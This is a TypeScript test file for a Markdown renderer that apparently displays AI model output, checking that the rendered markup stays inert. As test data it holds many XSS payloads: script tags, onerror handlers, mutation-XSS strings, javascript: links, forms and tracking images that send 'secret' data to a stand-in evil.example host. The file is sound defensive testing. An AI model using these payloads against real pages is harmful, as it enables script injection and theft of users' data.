// What markdown may become: rendered to static markup, which is what the browser's DOM will hold.
import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { blocksOf } from "../markdown/blocks.ts";
import { SourcesContext } from "../markdown/citation-mark.tsx";
import { Markdown } from "../markdown/markdown.tsx";
import { cutOn, NOTHING } from "../markdown/use-blocks.ts";

function render(text: string, streaming = false): string {
  return renderToStaticMarkup(createElement(Markdown, { text, streaming }));
}

const ALLOWED_TAGS = new Set(
  "a blockquote br button circle code del div em figcaption figure h3 h4 h5 hr img li ol p path pre rect span strong svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  "alt aria-hidden aria-label class d decoding dir focusable height href rel role rx scope src start tabindex target type viewBox width x y".split(
    " ",
  ),
);

/** Every tag and attribute of a markup React wrote; text cannot hold a "<" there. */
function inventory(markup: string): {
  tags: Set<string>;
  attributes: Set<string>;
  hrefs: string[];
  sources: string[];
} {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  const hrefs: string[] = [];
  const sources: string[] = [];
  for (const [, tag = "", rest = ""] of markup.matchAll(
    /<([a-zA-Z][\w-]*)((?:\s+[\w:-]+="[^"]*")*)\s*\/?>/g,
  )) {
    tags.add(tag);
    for (const [, name = "", value = ""] of rest.matchAll(/([\w:-]+)="([^"]*)"/g)) {
      attributes.add(name);
      if (name === "href") hrefs.push(value);
      if (name === "src") sources.push(value);
    }
  }
  return { tags, attributes, hrefs, sources };
}

function expectInert(text: string, streaming = false): string {
  const markup = render(text, streaming);
  const { tags, attributes, hrefs, sources } = inventory(markup);
  expect([...tags].filter((tag) => !ALLOWED_TAGS.has(tag))).toEqual([]);
  expect([...attributes].filter((name) => !ALLOWED_ATTRIBUTES.has(name))).toEqual([]);
  for (const href of hrefs) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/);
  for (const source of sources)
    expect(source).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,[\w+/]+=*$/);
  return markup;
}

describe("Markdown", () => {
  test("renders what models write", () => {
    const markup = render(
      "# One\n\n### Three\n\nSome **bold**, *em*, ~~del~~, `code` &amp; &#8364;.\n\n1. a\n2. b\n\n3) c\n\n- [x] done\n- [ ] open\n\n> quote\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```ts\nlet a = 1 < 2;\n```\n\n---",
    );
    expect(markup).toContain("<h3>One</h3>");
    expect(markup).toContain("<h4>Three</h4>");
    expect(markup).toContain(
      '<p>Some <strong>bold</strong>, <em>em</em>, <del>del</del>, <code class="code-span">code</code> &amp; €.</p>',
    );
    expect(markup).toContain("<ol><li>a</li><li>b</li></ol>");
    expect(markup).toContain('<ol start="3">');
    expect(markup).toContain('aria-label="done"');
    expect(markup).toContain("<blockquote><p>quote</p></blockquote>");
    expect(markup).toContain('<th scope="col" class="align-left">a</th>');
    expect(markup).toContain("<code>let a = 1 &lt; 2;</code>");
    expect(markup).toContain("<hr/>");
    expect(markup).not.toContain("<input");
  });

  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>bold</b>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<form action=https://evil.example><input type=password name=p><button formaction=//evil.example>go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "<p style='position:fixed' id=page name=location>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- a comment\n\n**still** -->",
  ])("shows raw HTML as the text it is: %s", (html) => {
    const markup = expectInert(html);
    expect(inventory(markup).hrefs).toEqual([]);
    expect(markup).toContain("&lt;");
  });

  test.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](\u0085javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](blob:https://example.com/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/session)",
    "[x](#top)",
    "[x](https://good.example@evil.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
  ])("makes no link of %s", (text) => {
    expect(inventory(expectInert(text)).hrefs).toEqual([]);
  });

  test("opens links elsewhere, without a referrer, beside the host they go to", () => {
    const markup = expectInert("[good.example](https://evil.example/?d=secret)");
    expect(markup).toContain(
      '<a href="https://evil.example/?d=secret" target="_blank" rel="noopener noreferrer nofollow">good.example</a>',
    );
    expect(markup).toContain("(evil.example)");
    expect(render("<https://example.com/a>")).not.toContain("link-host");
    expect(render("https://exämple.com")).toContain("(xn--exmple-cua.com)");
  });

  test("never makes an image", () => {
    const markup = expectInert(
      "![a cat](https://evil.example/pixel.png?d=secret)\n\n[![b](https://evil.example/b.png)](https://c.example)\n\n![c](data:image/svg+xml,x)",
    );
    expect(markup).not.toContain("<img");
    expect(markup).toContain("[image: a cat, evil.example]");
    expect(inventory(markup).hrefs).toEqual(["https://c.example/"]);
  });

  test("treats the info string of a fence as text", () => {
    const markup = expectInert('```"><img/src=x/onerror=alert(1)>\ncode\n```');
    expect(markup).toContain("&quot;&gt;&lt;img");
  });

  test("keeps names that mean something to a DOM or to an object as text", () => {
    const markup = expectInert("# __proto__\n\n## constructor\n\n[a](#__proto__) <a id=forms name=cookie>");
    expect(markup).toContain("<h3><strong>proto</strong></h3>");
  });

  test("names hidden characters in links and code", () => {
    expect(render("`a\u202eb`")).toContain('<span class="hidden-character">U+202E</span>');
    expect(render("```\na\u200b\u200bb\n```")).toContain("U+200B and 1 more");
    expect(render("[a*\u2066b*](https://example.com)")).toContain("U+2066");
    expect(render("`\u{e0041}`")).toContain("U+E0041");
    expect(render("`👨‍👩‍👧`")).not.toContain("hidden-character");
    expect(render("naïve 👨‍👩‍👧 prose")).not.toContain("hidden-character");
  });

  test("does not grow a page of labels out of hidden characters", () => {
    const markup = render(`\`${"a\u200b".repeat(5_000)}\``);
    expect(markup.match(/hidden-character/g)).toHaveLength(200);
  });

  test("is inert for every mixture of hostile pieces, in every state of a stream", () => {
    const pieces = fc.constantFrom(
      "<script>",
      "</script>",
      "<img src=x onerror=alert(1)>",
      "![a](https://evil.example/",
      "[b](javascript:",
      "alert(1))",
      "](",
      ")",
      "`",
      "```\n",
      "\n\n",
      "- ",
      "> ",
      "|a|b|\n|-|-|\n",
      "<!--",
      "-->",
      "&lt;",
      "**",
      "_",
      "www.evil.example",
      "https://evil.example/?",
      "a@b.example",
      "\\",
      "\u202e",
      "<https://evil.example>",
      "[r]: javascript:x\n",
      "![p](data:image/png;base64,",
      "![p](data:image/svg+xml;base64,",
      "iVBORw0KGgo=",
      "$",
      "$$\n",
      "\\(",
      "\\)",
      "\\href{javascript:alert(1)}{x}",
      "[doc1]",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => {
        for (let count = 1; count <= parts.length; count += 1) {
          expectInert(parts.slice(0, count).join(""), true);
        }
        expectInert(parts.join(""));
      }),
      { numRuns: 100 },
    );
  });

  test("ends in the same markup streamed as in one shot", () => {
    const text =
      "Intro\n\n- a\n\n- b\n  ```js\n  x\n  ```\n\n| a |\n|---|\n| 1 |\n\n<div>\n\n```\nunclosed **x**\n\ny";
    let cut = NOTHING;
    for (let length = 1; length <= text.length; length += 1) cut = cutOn(cut, text.slice(0, length));
    expect(blocksOf(cut.blocks)).toEqual(blocksOf(cutOn(NOTHING, text).blocks));
    // An answer that was replaced, not continued, is cut anew.
    expect(cutOn(cut, "other").blocks).toEqual(cutOn(NOTHING, "other").blocks);
  });

  test("shows pictures that come with the answer, and no others", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(render(`before\n\n![a <cat>](${png})\n\nafter`)).toContain(
      `<figure class="picture"><img src="${png}" alt="a &lt;cat&gt;" decoding="async"/></figure>`,
    );
    for (const address of [
      "data:image/svg+xml;base64,PHN2Zz4=",
      "data:text/html;base64,PHN2Zz4=",
      'data:image/png;base64,AAAA" onerror="alert(1)',
      "data:image/png,AAAA",
      "DATA:image/png;base64,AAAA",
      "https://evil.example/a.png",
      "blob:https://evil.example/1",
    ]) {
      expect(inventory(expectInert(`![x](${address})`)).tags).not.toContain("img");
    }
  });

  test("takes a picture of megabytes, shows nothing of it before it is whole, and keeps what follows", () => {
    const line = `![p](data:image/jpeg;base64,${"A".repeat(2_000_000)})`;
    expect(render(line.slice(0, 1_000_000), true)).toBe('<div class="markdown" dir="auto"></div>');
    const markup = render(`${line}\n\nand **text**`);
    expect(inventory(markup).sources).toHaveLength(1);
    expect(markup).toContain("<strong>text</strong>");
    // What never became a picture is text in the end.
    expect(render(line.slice(0, 50_000))).toContain("plain-text");
  });

  test("marks sources only where there are some", () => {
    expect(render("As [doc1] says.")).toContain("<p>As [doc1] says.</p>");
    const sources = { count: 1, show: () => {} };
    const markup = renderToStaticMarkup(
      createElement(
        SourcesContext,
        { value: sources },
        createElement(Markdown, { text: "As [doc1] and [doc2] say.", streaming: false }),
      ),
    );
    expect(markup).toContain('aria-label="Source 1">1</button>');
    expect(markup).toContain("[doc2]");
  });

  test.each([
    ["nested quotes", ">".repeat(100_000)],
    ["nested quotes with spaces", "> ".repeat(50_000)],
    ["stars", "*".repeat(100_000)],
    ["unclosed emphasis", "**a*b ".repeat(17_000)],
    ["underscores", "a_".repeat(50_000)],
    ["nested lists", "- ".repeat(50_000)],
    ["nested numbers", "1. ".repeat(33_000)],
    [
      "lists by indentation",
      Array.from({ length: 120 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n"),
    ],
    ["dollars", "$".repeat(100_000)],
    ["dollars and words", "$a ".repeat(30_000)],
    ["opened formulas", "\\(x".repeat(30_000)],
    ["opened pictures", "![a](data:image/png;base64,".repeat(4_000)],
    ["brackets", "[".repeat(100_000)],
    ["links in links", "[a](".repeat(25_000)],
    ["backticks", "`a``b".repeat(20_000)],
    ["lazy quotes", "> a\nb\n".repeat(16_000)],
    ["a table of 10,000 columns", `|${"a|".repeat(10_000)}\n|${"-|".repeat(10_000)}\n`],
    ["a table of 50,000 cells", `|a|b|c|d|e|\n|-|-|-|-|-|\n${"|1|2|3|4|5|\n".repeat(10_000)}`],
    ["spaces", " ".repeat(100_000)],
    ["blank lines in a list", `- a\n${"\n".repeat(100_000)}b`],
  ])("stays bounded for %s", (_, text) => {
    const start = performance.now();
    const markup = expectInert(text);
    // Generous for a loaded machine; without the bounds these take from seconds to a stack overflow.
    expect(performance.now() - start).toBeLessThan(2_000);
    expect(markup.length).toBeGreaterThan(0);
  });
});
